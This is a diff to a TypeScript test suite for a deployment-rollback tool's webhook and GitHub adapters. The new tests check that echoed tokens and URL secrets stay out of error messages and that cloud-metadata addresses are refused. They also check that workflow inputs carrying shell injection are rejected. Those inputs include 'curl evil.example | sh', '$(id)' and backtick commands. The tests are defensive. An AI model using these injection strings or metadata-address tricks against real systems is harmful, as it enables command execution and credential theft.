@@ -7,7 +7,7 @@ import { answerOf, isRefusedAddress } from '../../src/rollback/guarded-request.t
 import type { RollbackOrder } from '../../src/rollback/target-adapter.ts';
 import { WebhookAdapter, type WebhookOptions } from '../../src/rollback/webhook-adapter.ts';
 import { HandClock } from '../stream/embedded-place.ts';
-import { FakeServer, jsonReply } from './fake-server.ts';
+import { FakeServer, jsonReply, type Heard } from './fake-server.ts';
 import { noon } from './site.ts';
 
 let server: FakeServer;
@@ -94,8 +94,46 @@ describe('a webhook', () => {
     server.reply = jsonReply(status, { message: 'approval\nrequired' });
     const outcome = await webhook().rollBack(order);
     expect(outcome.kind).toBe(kind);
-    expect(outcome.reason).toContain(`it answered ${status}: {"message":"approval`);
-    expect(JSON.stringify(outcome)).not.toContain('the-token');
+    expect(outcome.reason).toContain(`it answered ${status}: approval required`);
+  });
+
+  const echoes: readonly { readonly how: string; readonly reply: (heard: Heard) => string }[] = [
+    { how: 'all of it', reply: (heard) => JSON.stringify(heard) },
+    { how: 'all of it as text', reply: (heard) => JSON.stringify(heard, null, 1).replaceAll('"', '') },
+    { how: 'its token in base64', reply: () => Buffer.from('the/token+of=all').toString('base64') },
+    {
+      how: 'its headers as the message',
+      reply: ({ headers }) => JSON.stringify({ message: `400 for ${JSON.stringify(headers)}` }),
+    },
+    {
+      how: 'only the token and the signature',
+      reply: ({ headers }) => {
+        const [, token] = String(headers.authorization).split(' ');
+        const [, signature] = String(headers['x-plimsoll-signature']).split('v1=');
+        return JSON.stringify({ message: `${'.'.repeat(270)} ${token} and ${signature} are no good` });
+      },
+    },
+    {
+      how: 'its token, encoded',
+      reply: ({ headers }) => JSON.stringify({ message: encodeURIComponent(String(headers.authorization)) }),
+    },
+    { how: 'its path', reply: ({ path }) => JSON.stringify({ message: `Cannot GET or POST ${path}` }) },
+  ];
+  test.each(echoes)('that repeats $how is not quoted with what is secret', async ({ reply }) => {
+    const bearing = webhook({
+      token: new Secret('the/token+of=all'),
+      url: `${url}/hooks/T0/hunter2?key=swordfish`,
+      currentUrl: `${url}/hooks/T0/hunter2?key=swordfish`,
+    });
+    for (const status of [200, 400, 409, 429, 500]) {
+      server.reply = (heard, response) => void response.writeHead(status).end(reply(heard));
+      const said = JSON.stringify([await bearing.rollBack(order), await bearing.current()]);
+      const signature = String(server.heard.at(-2)?.headers['x-plimsoll-signature']).split('v1=')[1]!;
+      for (const hidden of ['the/token', 'the%2Ftoken', signature.slice(0, 8), 'hunter2', 'swordfish'])
+        expect(said).not.toContain(hidden);
+      expect(said).not.toContain(Buffer.from('the/token+of=all').toString('base64'));
+      expect(said).toContain(`it answered ${status}`);
+    }
   });
 
   test.each([301, 302, 307, 308])('that answers %i is not followed', async (status) => {
@@ -126,6 +164,33 @@ describe('a webhook', () => {
   test('that begins to answer and goes silent may have done it', async () => {
     server.reply = (_, response) => void response.writeHead(200).write('{');
     expect(await webhook({ timeoutMs: 200 }).rollBack(order)).toMatchObject({ kind: 'uncertain' });
+  });
+
+  test('that switches protocols, as nobody asked it to, may have done it', async () => {
+    const asked = { timeoutMs: 10_000 };
+    server.reply = (_, { socket }) =>
+      void socket?.write('HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n');
+    expect(await webhook(asked).rollBack(order)).toMatchObject({ kind: 'uncertain' });
+    expect(await webhook(asked).current()).toMatchObject({ kind: 'unreachable' });
+  });
+
+  test.each(['Processing', 'Early Hints'])(
+    'that says %s and nothing more may have done it',
+    async (interim) => {
+      server.reply = (_, { socket }) =>
+        void socket?.write(`HTTP/1.1 10${interim === 'Processing' ? 2 : 3} ${interim}\r\n\r\n`);
+      expect(await webhook({ timeoutMs: 200 }).rollBack(order)).toMatchObject({ kind: 'uncertain' });
+    },
+  );
+
+  test.each(['10€', 'a\nb'])('whose token no request can bear has surely not done it: %j', async (token) => {
+    const adapter = webhook({ token: new Secret(token) });
+    expect(await adapter.rollBack(order)).toEqual({
+      kind: 'unreached',
+      reason: expect.stringContaining('Invalid character in header content ["authorization"]'),
+    });
+    expect(await adapter.current()).toMatchObject({ kind: 'unreachable' });
+    expect(server.heard).toEqual([]);
   });
 
   test('to which nobody listens has surely not done it', async () => {
@@ -173,6 +238,10 @@ describe('addresses where clouds keep credentials', () => {
     'fe80::1',
     'fd00:ec2::254',
     '64:ff9b::a9fe:a9fe',
+    '64:ff9b::a83f:8110',
+    '64:ff9b:1::a9fe:a9fe',
+    '2002:a9fe:a9fe::',
+    '::169.254.169.254',
     '100.100.100.200',
     '168.63.129.16',
     '0.0.0.0',
@@ -182,12 +251,19 @@ describe('addresses where clouds keep credentials', () => {
     expect(isRefusedAddress(address)).toBe(true);
   });
 
-  test.each(['127.0.0.1', '::1', '10.0.0.1', '192.168.1.1', '172.20.0.1', 'fd12::1', '140.82.112.6'])(
-    '%s may be one',
-    (address) => {
-      expect(isRefusedAddress(address)).toBe(false);
-    },
-  );
+  test.each([
+    '127.0.0.1',
+    '::1',
+    '10.0.0.1',
+    '192.168.1.1',
+    '172.20.0.1',
+    'fd12::1',
+    '140.82.112.6',
+    '64:ff9b::8c52:7006',
+    '2606:50c0:8000::154',
+  ])('%s may be one', (address) => {
+    expect(isRefusedAddress(address)).toBe(false);
+  });
 
   test.each([
     'http://169.254.169.254/latest/meta-data/',
@@ -356,8 +432,22 @@ describe('GitHub', () => {
     to_release: 'v1',
     agent: 'refund',
     environment: 'production',
-    reason: 'run_success is worse',
   };
+
+  test.each([
+    { from: 'v2"; curl evil.example | sh; "' },
+    { from: 'v2$(id)' },
+    { to: 'v1 `id`' },
+    { agent: '-rf' },
+    { agent: '' },
+    { environment: "production'\nid" },
+  ])('is sent nothing that a shell could take for more than a name: %j', async (changes) => {
+    expect(await github().rollBack({ ...order, ...changes })).toMatchObject({
+      kind: 'refused',
+      reason: expect.stringContaining('is no name that a workflow may be given'),
+    });
+    expect(server.heard).toEqual([]);
+  });
 
   test('is sent a workflow_dispatch, with texts as inputs', async () => {
     server.reply = (_, response) => void response.writeHead(204).end();
